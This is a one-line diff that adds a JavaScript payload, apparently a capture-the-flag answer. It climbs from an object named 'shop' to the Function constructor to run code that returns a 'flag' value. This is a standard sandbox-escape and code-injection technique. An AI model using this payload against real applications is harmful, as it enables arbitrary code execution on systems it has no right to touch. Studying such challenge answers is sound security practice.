@@ -1,0 +1,1 @@
+shop.constructor.constructor("return flag")()
